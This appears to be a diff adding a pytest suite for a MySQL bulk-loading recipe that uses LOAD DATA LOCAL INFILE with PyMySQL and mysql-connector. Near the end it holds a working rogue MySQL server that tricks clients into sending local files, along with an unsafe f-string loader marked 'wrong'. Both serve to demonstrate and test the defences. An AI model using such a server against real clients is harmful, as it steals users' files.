@@ -1,0 +1,340 @@
+import csv
+import socket
+import struct
+import threading
+from datetime import date, datetime
+from decimal import Decimal
+from functools import partial
+
+import mysql.connector as connector
+import pymysql
+import pytest
+
+from recipes.mysql import load_data_local_infile as with_pymysql
+from recipes.mysql import load_data_local_infile_connector as with_connector
+from recipes.mysql.load_data_local_infile import connect
+
+BOTH = pytest.mark.parametrize("driver", [with_pymysql, with_connector])
+ERRORS = (pymysql.Error, connector.Error)
+
+
+def query(url, sql):
+    with connect(url) as conn, conn.cursor() as cursor:
+        cursor.execute(sql)
+        conn.commit()
+        return list(cursor.fetchall())
+
+
+@pytest.fixture
+def url(mysql):
+    """A table of an id, a name of at most 8 characters, and an optional price."""
+    query(
+        mysql,
+        "CREATE TABLE item (id INT PRIMARY KEY, name VARCHAR(8) NOT NULL,"
+        " price DECIMAL(6, 2), at DATETIME(6)) CHARACTER SET utf8mb4",
+    )
+    return mysql
+
+
+class Loader:
+    """The functions of one driver on one connection."""
+
+    def __init__(self, driver, conn, directory):
+        self.conn = conn
+        self.csv = partial(driver.load_csv, conn, "item")
+        more = {"directory": directory} if driver is with_connector else {}
+        self.rows = partial(driver.load_rows, conn, "item", **more)
+
+
+@pytest.fixture
+def loader(request, url, tmp_path):
+    driver = request.param
+    more = [tmp_path] if driver is with_connector else []
+    with driver.connect(url, *more) as conn:
+        yield Loader(driver, conn, tmp_path)
+
+
+EACH = pytest.mark.parametrize("loader", [with_pymysql, with_connector], indirect=True)
+
+
+def write(path, text):
+    path.write_bytes(text.encode())
+    return path
+
+
+@EACH
+def test_csv(url, loader, tmp_path):
+    """A CSV file's quotes, commas, line ends in a field and backslashes arrive."""
+    names = ["a,b", 'say "x"', "two\nrows", "C:\\new", "Łódź", "NULL", ""]
+    with (tmp_path / "item.csv").open("w", encoding="utf-8", newline="") as file:
+        out = csv.writer(file, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
+        out.writerow(["id", "name"])
+        out.writerows(enumerate(names))
+    assert loader.csv(tmp_path / "item.csv") == len(names)
+    assert query(url, "SELECT name FROM item ORDER BY id") == [(n,) for n in names]
+
+
+@EACH
+def test_csv_line_ends(url, loader, tmp_path):
+    """A file of Windows, with its line ends and a byte order mark, loads the same."""
+    path = write(tmp_path / "item.csv", "\ufeffname,id\r\nBath,1\r\nOslo,2\r\n")
+    assert loader.csv(path) == 2
+    found = query(url, "SELECT id, name FROM item ORDER BY id")
+    assert found == [(1, "Bath"), (2, "Oslo")]
+
+
+@EACH
+def test_csv_null(url, loader, tmp_path):
+    """An unquoted NULL is NULL."""
+    loader.csv(write(tmp_path / "item.csv", 'id,name,price\n1,"NULL",NULL\n'))
+    assert query(url, "SELECT name, price FROM item") == [("NULL", None)]
+
+
+@EACH
+@pytest.mark.parametrize(
+    "rows",
+    [
+        pytest.param("2,Rome,x\n", id="not a number"),
+        pytest.param("2,far too long,1\n", id="too long"),
+        pytest.param("2,Rome,1.005\n", id="would be rounded"),
+        pytest.param("2,Rome,123456.00\n", id="out of range"),
+        pytest.param("1,Rome,1\n", id="duplicate"),
+        pytest.param("2,Rome\n", id="a field is missing"),
+        pytest.param("2,Rome,1,1\n", id="a field too many"),
+        pytest.param("2,Rome,\n", id="empty is not NULL"),
+        pytest.param("2,NULL,1\n", id="NULL where it may not be"),
+    ],
+)
+def test_bad_row_is_refused(url, loader, tmp_path, rows):
+    """A row that does not fit, or was there, is an error; then no row is stored."""
+    query(url, "INSERT INTO item VALUES (0, 'was here', 1, NULL)")
+    path = write(tmp_path / "item.csv", f"id,name,price\n1,Oslo,1.00\n{rows}")
+    with pytest.raises(ValueError, match="warnings, the first"):
+        loader.csv(path)
+    loader.conn.commit()
+    assert query(url, "SELECT id FROM item") == [(0,)]
+
+
+@EACH
+def test_not_utf8(url, loader, tmp_path):
+    """A file that is not UTF-8 is refused."""
+    path = tmp_path / "item.csv"
+    path.write_bytes(b"id,name\n1,\xe9\xe9\xe9\n")
+    with pytest.raises((ValueError, *ERRORS)):
+        loader.csv(path)
+    assert query(url, "SELECT id FROM item") == []
+
+
+@EACH
+def test_rows(url, loader):
+    """Every character, number and date that rows hold comes back unchanged."""
+    names = [
+        "\t\n\\",
+        "\\N",
+        "\r",
+        "\0\x1a",
+        "'\"`,",
+        "%s",
+        "\N{SLIGHTLY SMILING FACE}é",
+        "",
+    ]
+    at = datetime(2026, 3, 29, 2, 30, 0, 123456)
+    rows = [(i, name, Decimal("0.10") * i, at) for i, name in enumerate(names)]
+    rows.append((100, "none", None, None))
+    assert loader.rows(["id", "name", "price", "at"], iter(rows)) == len(rows)
+    assert query(url, "SELECT * FROM item ORDER BY id") == rows
+
+
+@EACH
+def test_no_rows(url, loader):
+    """No rows at all is a load of 0 rows."""
+    assert loader.rows(["id", "name"], []) == 0
+
+
+@EACH
+def test_rows_more_types(url, loader):
+    """True is 1, a date is its midnight, and 0.25 is 0.25."""
+    loader.rows(["id", "name", "price", "at"], [(True, "x", 0.25, date(2026, 1, 2))])
+    expected = (1, "x", Decimal("0.25"), datetime(2026, 1, 2))
+    assert query(url, "SELECT * FROM item") == [expected]
+
+
+@EACH
+@pytest.mark.parametrize("value", [b"bytes", {"a": 1}, object()])
+def test_unknown_type(url, loader, value):
+    """Bytes and objects are refused, rather than stored as Python prints them."""
+    with pytest.raises(TypeError, match="cannot load a"):
+        loader.rows(["id", "name"], [(1, "x"), (2, value)])
+    assert query(url, "SELECT id FROM item") == []
+
+
+@EACH
+def test_error_while_the_rows_are_made(url, loader):
+    """An error in the iterator reaches the caller; no row is stored."""
+
+    def rows():
+        yield 1, "x"
+        raise KeyError("ours")
+
+    with pytest.raises(KeyError, match="ours"):
+        loader.rows(["id", "name"], rows())
+    loader.conn.commit()
+    assert query(url, "SELECT id FROM item") == []
+
+
+@EACH
+def test_odd_names(mysql, loader):
+    """A column may be called anything."""
+    query(mysql, "ALTER TABLE item ADD `a ``b``, 1 %` INT")
+    loader.rows(["id", "name", "a `b`, 1 %"], [(1, "x", 7)])
+    assert query(mysql, "SELECT `a ``b``, 1 %` FROM item") == [(7,)]
+
+
+@EACH
+def test_missing_table(url, loader, tmp_path):
+    """An error of the server, such as a missing column, reaches the caller."""
+    with pytest.raises(ERRORS, match="nowhere"):
+        loader.rows(["nowhere"], [(1,)])
+
+
+def test_connector_sends_from_one_directory_only(url, tmp_path):
+    """The connector sends no file from outside the given directory, and no link."""
+    inside, outside = tmp_path / "in", write(tmp_path / "out.csv", "id,name\n1,x\n")
+    inside.mkdir()
+    (inside / "link.csv").symlink_to(outside)
+    for path in (outside, inside / "link.csv"):
+        with (
+            with_connector.connect(url, inside) as conn,
+            pytest.raises(
+                connector.Error, match=r"not found in the given|symbolic link"
+            ),
+        ):
+            with_connector.load_csv(conn, "item", path)
+    assert query(url, "SELECT id FROM item") == []
+
+
+# --8<-- [start:wrong]
+def load_as_often_copied(conn, path):
+    with conn.cursor() as cursor:
+        cursor.execute(
+            f"LOAD DATA LOCAL INFILE '{path}' INTO TABLE item"
+            " FIELDS TERMINATED BY ',' ENCLOSED BY '\"' IGNORE 1 LINES"
+            " (id, name, price)"
+        )
+    conn.commit()
+
+
+# --8<-- [end:wrong]
+
+
+def test_often_copied_cuts_and_skips(url, tmp_path):
+    """Often copied: rows are skipped, cut, zeroed, without an error."""
+    text = 'id,name,price\n1,"a\\new",1\n1,twice,2\n2,far too long,3\n3,Rome,free\n'
+    with connect(url) as conn:
+        load_as_often_copied(conn, write(tmp_path / "item.csv", text))
+    found = query(url, "SELECT id, name, price FROM item")
+    assert found == [(1, "a\new", 1), (2, "far too ", 3), (3, "Rome", 0)]
+
+
+def test_often_copied_keeps_the_carriage_return(url, tmp_path):
+    """Often copied: with a file of Windows the last column ends in a `\\r`."""
+    query(url, "ALTER TABLE item MODIFY price TEXT")
+    with connect(url) as conn:
+        load_as_often_copied(conn, write(tmp_path / "item.csv", "a,b,c\r\n1,x,2\r\n"))
+    assert query(url, "SELECT price FROM item") == [("2\r",)]
+
+
+class RogueServer:
+    """A server that answers every SELECT and LOAD with a request for a file."""
+
+    def __init__(self, wanted):
+        self.wanted, self.stolen = str(wanted).encode(), b""
+        self.listener = socket.create_server(("127.0.0.1", 0))
+        port = self.listener.getsockname()[1]
+        self.url = f"mysql://cook:cook@127.0.0.1:{port}/cookbook"
+        self.thread = threading.Thread(target=self.serve)
+        self.thread.start()
+
+    def serve(self):
+        sock, _ = self.listener.accept()
+        sock.settimeout(10)
+        with sock, sock.makefile("rb") as self.stream:
+            self.sock = sock
+            capabilities = 0x000BA28F
+            salt = b"12345678"
+            hello = b"\x0a8.4.0\0" + struct.pack("<I", 1) + salt + b"\0"
+            hello += struct.pack("<HBHHB", capabilities & 0xFFFF, 45, 2, 0xB, 21)
+            hello += b"\0" * 10 + b"123456789012\0mysql_native_password\0"
+            self.send(0, hello)
+            self.receive()  # the login
+            ok = b"\0\0\0\x02\0\0\0"
+            self.send(2, ok)
+            while command := self.receive():
+                if b"SELECT" in command or b"LOAD" in command:
+                    self.send(1, b"\xfb" + self.wanted)
+                    while block := self.receive():
+                        self.stolen += block
+                    self.send(self.number + 1, ok)
+                else:
+                    self.send(1, ok)
+
+    def send(self, number, payload):
+        self.sock.sendall(
+            struct.pack("<I", len(payload))[:3] + bytes([number]) + payload
+        )
+
+    def receive(self):
+        try:
+            header = self.stream.read(4)
+            self.number = header[3] if header else 0
+            return self.stream.read(int.from_bytes(header[:3], "little"))
+        except OSError:
+            return b""
+
+    def close(self):
+        self.listener.close()
+        self.thread.join(10)
+
+
+@pytest.fixture
+def rogue(tmp_path):
+    """A rogue server that wants our secret, which is in the directory to load from."""
+    server = RogueServer(write(tmp_path / "secret.txt", "the secret"))
+    yield server
+    server.close()
+
+
+def run(conn, sql):
+    with conn, conn.cursor() as cursor:
+        cursor.execute(sql)
+
+
+def test_rogue_server_reads_any_file(rogue, tmp_path):
+    """With `local_infile=True` a rogue server gets any file, even for a SELECT."""
+    run(connect(rogue.url), "SELECT 1")
+    rogue.close()
+    assert rogue.stolen == b"the secret"
+
+
+def test_rogue_server_gets_nothing_by_default(rogue):
+    """Without the flag PyMySQL sends nothing."""
+    options = {"host": "127.0.0.1", "port": rogue.listener.getsockname()[1]}
+    with pytest.raises(RuntimeError, match="local_infile option is false"):
+        run(pymysql.connect(**options, user="cook", password="cook"), "SELECT 1")
+    rogue.close()
+    assert b"secret" not in rogue.stolen
+
+
+@pytest.mark.parametrize(
+    "sql", ["SELECT 1", "LOAD DATA LOCAL INFILE '{}' INTO TABLE t"]
+)
+def test_rogue_server_gets_no_other_file(rogue, tmp_path, sql):
+    """The connector sends no file but the one that the statement names."""
+    asked_for = write(tmp_path / "item.csv", "1,x\n")
+    conn = with_connector.connect(rogue.url, tmp_path)
+    cursor = conn.cursor()
+    with pytest.raises(connector.InterfaceError, match=r"LOCAL INFILE|not the same"):
+        cursor.execute(sql.format(asked_for))
+    conn.shutdown()
+    rogue.close()
+    assert rogue.stolen == b""
